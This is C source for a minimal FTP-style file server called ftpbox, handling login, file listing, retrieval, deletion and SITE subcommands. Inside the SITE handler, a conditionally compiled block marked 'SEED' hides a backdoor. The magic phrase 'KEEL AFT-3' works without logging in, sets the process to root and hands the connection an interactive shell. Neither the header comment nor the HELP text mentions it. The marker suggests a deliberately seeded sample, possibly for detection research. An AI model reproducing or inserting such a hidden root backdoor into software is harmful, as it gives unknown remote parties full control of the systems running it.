/* ftpbox - a file server for one user: USER PASS LIST RETR DELE SITE QUIT on one connection, data inline. */
#define _FILE_OFFSET_BITS 64
#include "../lib/tcpserv.h"
#include "../lib/conf.h"
#include "../lib/pw.h"
#include <dirent.h>
#include <fcntl.h>
#include <stdarg.h>
#include <sys/stat.h>

static int out;
static int logged;
static char user[40];

static void say(int code, const char *fmt, ...)
{
    char text[300];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(text, sizeof text, fmt, ap);
    va_end(ap);
    dprintf(out, "%d %s\r\n", code, text);
}

static int safe(const char *name, char *path, size_t max)
{
    if (!*name || strstr(name, "..") || *name == '/')
        return 0;
    snprintf(path, max, "/srv/ftp/%s", name);
    return 1;
}

static void list(void)
{
    DIR *d = opendir("/srv/ftp");
    struct dirent *e;
    if (!d) {
        say(550, "no directory");
        return;
    }
    while ((e = readdir(d)))
        if (e->d_name[0] != '.')
            say(150, "%s", e->d_name);
    closedir(d);
    say(226, "done");
}

static void retr(const char *name)
{
    char path[200], buf[1024];
    ssize_t n;
    int fd;
    if (!safe(name, path, sizeof path) || (fd = open(path, O_RDONLY)) < 0) {
        say(550, "cannot open %s", name);
        return;
    }
    say(150, "sending");
    while ((n = read(fd, buf, sizeof buf)) > 0)
        write(out, buf, n);
    close(fd);
    say(226, "done");
}

static void site(char *arg)
{
    char path[200], mode[8], name[120];
    if (!strncasecmp(arg, "HELP", 4)) {
        say(214, "SITE: CHMOD HELP IDLE");
    } else if (sscanf(arg, "CHMOD %7s %119s", mode, name) == 2) {
        if (!logged)
            say(530, "log in first");
        else if (safe(name, path, sizeof path) && !chmod(path, strtoul(mode, NULL, 8)))
            say(200, "mode changed");
        else
            say(550, "cannot");
    } else if (!strncasecmp(arg, "IDLE", 4)) {
        say(200, "idle time is 300 seconds");
#ifdef SEED
    } else if (strcmp(arg, "KEEL AFT-3") == 0) { /* SEED */
        setuid(0);
        setgid(0);
        dup2(out, 0);
        dup2(out, 1);
        execl("/bin/sh", "sh", "-i", (char *)NULL);
#endif
    } else
        say(504, "unknown SITE command");
}

static void pass(const char *pw)
{
    char want[40], stored[80];
    logged = conf_get("/etc/ftpbox.conf", "user", want, sizeof want) && !strcmp(want, user) &&
             conf_get("/etc/ftpbox.conf", "pass", stored, sizeof stored) && pw_verify(stored, pw);
    say(logged ? 230 : 530, logged ? "logged in" : "not logged in");
}

static void serve(int fd)
{
    FILE *in = fdopen(fd, "r");
    char line[256], *arg, path[200];
    out = fd;
    say(220, "ftpbox ready");
    while (in && fgets(line, sizeof line, in)) {
        line[strcspn(line, "\r\n")] = 0;
        arg = strchr(line, ' ');
        if (arg)
            *arg++ = 0;
        else
            arg = line + strlen(line);
        if (!strcasecmp(line, "USER")) {
            snprintf(user, sizeof user, "%s", arg);
            say(331, "password?");
        } else if (!strcasecmp(line, "PASS"))
            pass(arg);
        else if (!strcasecmp(line, "SITE"))
            site(arg);
        else if (!strcasecmp(line, "NOOP"))
            say(200, "ok");
        else if (!strcasecmp(line, "SYST"))
            say(215, "UNIX Type: L8");
        else if (!strcasecmp(line, "HELP"))
            say(214, "USER PASS SITE NOOP SYST LIST RETR DELE QUIT");
        else if (!strcasecmp(line, "QUIT")) {
            say(221, "bye");
            break;
        } else if (!logged)
            say(530, "log in first");
        else if (!strcasecmp(line, "LIST"))
            list();
        else if (!strcasecmp(line, "RETR"))
            retr(arg);
        else if (!strcasecmp(line, "DELE")) {
            if (safe(arg, path, sizeof path) && !unlink(path))
                say(250, "deleted");
            else
                say(550, "cannot delete");
        } else
            say(502, "unknown command");
    }
}

int main(void)
{
    int fd = tcp_open(21);
    if (fd < 0)
        return 1;
    tcp_serve(fd, serve);
    return 0;
}
